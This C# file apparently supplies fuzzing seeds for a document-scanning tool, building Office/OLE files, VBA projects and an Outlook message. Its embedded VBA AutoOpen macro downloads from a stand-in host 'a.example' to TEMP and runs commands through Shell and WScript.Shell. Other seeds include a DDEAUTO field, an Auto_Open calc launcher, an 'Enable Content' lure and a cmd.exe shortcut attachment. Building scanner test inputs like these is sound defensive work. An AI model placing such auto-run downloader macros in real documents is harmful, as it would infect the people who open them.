using System.Text;
using Postvakt.Documents.Tests.Building;

namespace Postvakt.Fuzz.Documents;

internal static class OleSeeds
{
    private static readonly string Source = """
        Attribute VB_Name = "ThisDocument"
        Private Declare PtrSafe Function F Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a, ByVal b, ByVal c, ByVal d, ByVal e)
        Const Key = "ab"
        Sub AutoOpen()
            Dim i As Integer, s As String, v(3) As Byte
            On Error Resume Next
            For i = 1 To Len("746F6F6C") Step 2
                s = s & Chr(Val("&H" & Mid("746F6F6C", i, 2)) Xor 0)
            Next i
            If Application.Version > 3 Then F 0, "http://a.example/" & s, Environ("TEMP") & "\x", 0, 0 Else Kill "a"
            Select Case i
                Case 1 To 3, Is > 9: Shell s, vbHide
                Case Else
            End Select
            With CreateObject("WScript.Shell")
                .Run Join(Split(StrReverse("x y z"), " "), "-"), 0
            End With
            Do While i < 20: i = i + 1: Loop
            Open "a.txt" For Output As #1
            Print #1, s; i
            Name "a" As "b"
            Call Other(s, 3 ^ 2 \ 2 Mod 5)
        End Sub
        Function Other(ByVal t As String, n)
            ReDim Preserve x(n, 2)
            For Each c In Array(116, 111, 111): Other = Other & ChrW(c): Next
            GoTo ende
        ende:
            Other = Replace(t, "a", "") & UserForm1.Label1.Caption & Choose(2, 1, 2) & String(3, "x")
            CallByName CreateObject("WScript.Shell"), "R" & "un", VbMethod, Other, 0
        End Function
        """.ReplaceLineEndings("\r\n");

    public static IReadOnlyList<string> Words { get; } =
    [
        "\n\u001f+", "|o", "::", "/", "VBA/dir|o", "VBA/ThisDocument|o", "Macros/", "_VBA_PROJECT_CUR/", "_VBA_PROJECT", "PROJECT", "WordDocument", "0Table", "1Table", "PowerPoint Document", "Workbook", "ObjectPool/_1/\u0001Ole10Native", "\u0001CompObj", "\u0005SummaryInformation",
        "__substg1.0_37010102", "__substg1.0_3701000D", "__attach_version1.0_#00000000/", "__properties_version1.0", "EncryptionInfo", "EncryptedPackage",
        "Sub AutoOpen()\r\n", "End Sub\r\n", "Function ", "End Function\r\n", "For i = 1 To 999999999\r\n", "For Each c In s\r\n", "Next\r\n", "Do\r\n", "Loop\r\n", "While 1\r\n", "Wend\r\n", "If a Then ", "ElseIf ", "Else", "End If\r\n", "Select Case ", "Case ", "End Select\r\n", "With ",
        "End With\r\n", "GoTo ", "GoSub ", "Return\r\n", "On Error GoTo ", "Resume Next\r\n", "ReDim Preserve a(", "Dim a(1 To 2147483647)\r\n", "Shell ", "Chr(", "ChrW(", "String(2147483647,", "Space(", "Mid(", "Replace(", "Split(", "Join(", "StrReverse(", "Array(", "Eval(", "Execute(",
        "CreateObject(\"WScript.Shell\").Run ", "CallByName ", "Environ(", " & ", " + ", " ^ ", " \\ ", " Mod ", " Xor ", " Like ", "Not ", "-", "(", ")", "\"", "\"\"", "'", ":", " _\r\n", ",", "=", ".", "!", "&H7FFFFFFF", "&HFFFFFFFF", "-2147483648", "9223372036854775807", "1E308", "1E400", "#1/1/9999#",
        "\u0013 DDEAUTO ", "\u0014", "\u0015", "Attribute VB_Name = \"", "Module=", "Document=a/&H0", "\r\n",
    ];

    public static IReadOnlyList<byte[]> All()
    {
        var full = WordDocumentWriter.Write("text \x13 DDEAUTO a b \x14r\x15", "http://a.example/t.dot").Stream("\x05SummaryInformation", PropertySetWriter.Write(1252, (2, "Title"), (4, "Author")));
        var project = new VbaProjectWriter().Document("ThisDocument", Source, [.. new byte[40], 0xB9, 0, 8, 0, .. "http://a"u8]).Form("UserForm1", "");
        project.WriteTo(full, "Macros");
        new FormWriter().Label("Label1", "caption", "tag").TextBox("Box", "value").WriteTo(full, "Macros/UserForm1");
        full.Stream("ObjectPool/_1/\x01Ole10Native", OlePackageWriter.Write("a.js", @"C:\a.js", "WScript.Echo(1)"u8)).Stream("ObjectPool/_2/Workbook", new byte[300]);
        var storage = new VbaProjectWriter().Module("M", "Sub Auto_Open()\r\nShell \"calc\"\r\nEnd Sub").ToArray();
        byte[] record = [0, 0, 0x11, 0x10, .. BitConverter.GetBytes(storage.Length), .. storage];
        var words = WordDocumentWriter.Write("Please Enable Content").ToArray();
        // One module with its offset 0, so that source and dir are mutated in plain.
        var dir = new VbaProjectWriter().Raw("ThisDocument", Source, []).Raw("M", "Sub x()\r\nEnd Sub", []).Dir();
        return
        [
            Recipe.Raw("a.doc", full.ToArray()),
            new Recipe("ole", "a.doc").Part("WordDocument", "x").Part("Macros/PROJECT", "Document=ThisDocument/&H00000000\r\nModule=M\r\n").Part("Macros/VBA/_VBA_PROJECT", new byte[] { 0xCC, 0x61, 0xFF, 0xFF, 0, 0, 0 })
                .Part("Macros/VBA/dir|o", dir).Part("Macros/VBA/ThisDocument|o", Source).Part("Macros/VBA/M|o", "Sub Document_Open()\r\nOther \"x\", 2\r\nEnd Sub\r\n").ToArray(),
            new Recipe("ole", "vbaProject.bin").Part("PROJECT", "Module=M\r\n").Part("VBA/_VBA_PROJECT", new byte[7]).Part("VBA/dir|o", dir).Part("VBA/ThisDocument|o", Source).ToArray(),
            Recipe.Raw("a.bin", project.ToArray()),
            Recipe.Raw("a.ppt", new CompoundFileWriter(4).Stream("PowerPoint Document", record).Stream("Current User", new byte[20]).ToArray()),
            new Recipe("ole", "a.ppt").Part("PowerPoint Document", record).ToArray(),
            Recipe.Raw("b.doc", words),
            new Recipe("ole", "a.doc").Part("WordDocument", "x").Part("ObjectPool/_1/\x01Ole10Native", OlePackageWriter.Write("a.js", @"C:\a.js", "WScript.Echo(1)"u8)).Part("ObjectPool/_2/\x01CompObj", new byte[40])
                .Part("\x05SummaryInformation", PropertySetWriter.Write(1200, (2, "Title"))).Part("\x05DocumentSummaryInformation", PropertySetWriter.Write(1251, (15, "Firm"))).ToArray(),
            Recipe.Streams("a.doc", full.ToArray()), Message().ToArray(),
            .. new[] { "WordDocument", "Book", "PowerPoint Document", "VBA/dir", "\u4840\u3F7F\u4164" }.Select(s => Recipe.Raw("a.msi", new CompoundFileWriter().Stream(s, new byte[300]).HiddenStream("h", new byte[100]).ToArray())),
        ];
    }

    private static Recipe Message()
    {
        var table = new byte[32 + 16];
        BitConverter.GetBytes(0x00390040).CopyTo(table, 32);
        BitConverter.GetBytes(132_785_000_000_000_000L).CopyTo(table, 40);
        static byte[] Wide(string text) => Encoding.Unicode.GetBytes(text);
        return new Recipe("ole", "a.msg").Part("__properties_version1.0", table).Part("__substg1.0_0037001F", Wide("Re: Charts")).Part("__substg1.0_0C1A001F", Wide("Anna")).Part("__substg1.0_5D01001F", Wide("anna@sample.example"))
            .Part("__substg1.0_1000001F", Wide("See https://c.example/12")).Part("__substg1.0_10130102", "<html><a href=\"https://a.example/\">x</a>").Part("__substg1.0_007D001F", Wide("Subject: x\r\nFrom: a@b.example\r\n"))
            .Part("__recip_version1.0_#00000000/__properties_version1.0", new byte[8]).Part("__recip_version1.0_#00000000/__substg1.0_39FE001F", Wide("bo@sample.example"))
            .Part("__attach_version1.0_#00000000/__properties_version1.0", new byte[8]).Part("__attach_version1.0_#00000000/__substg1.0_3707001F", Wide("a.lnk"))
            .Part("__attach_version1.0_#00000000/__substg1.0_37010102", Shortcut.Write(@"C:\Windows\System32\cmd.exe", "/c dir"))
            .Part("__attach_version1.0_#00000001/__substg1.0_3701000D/__substg1.0_1000001F", Wide("inner"));
    }
}
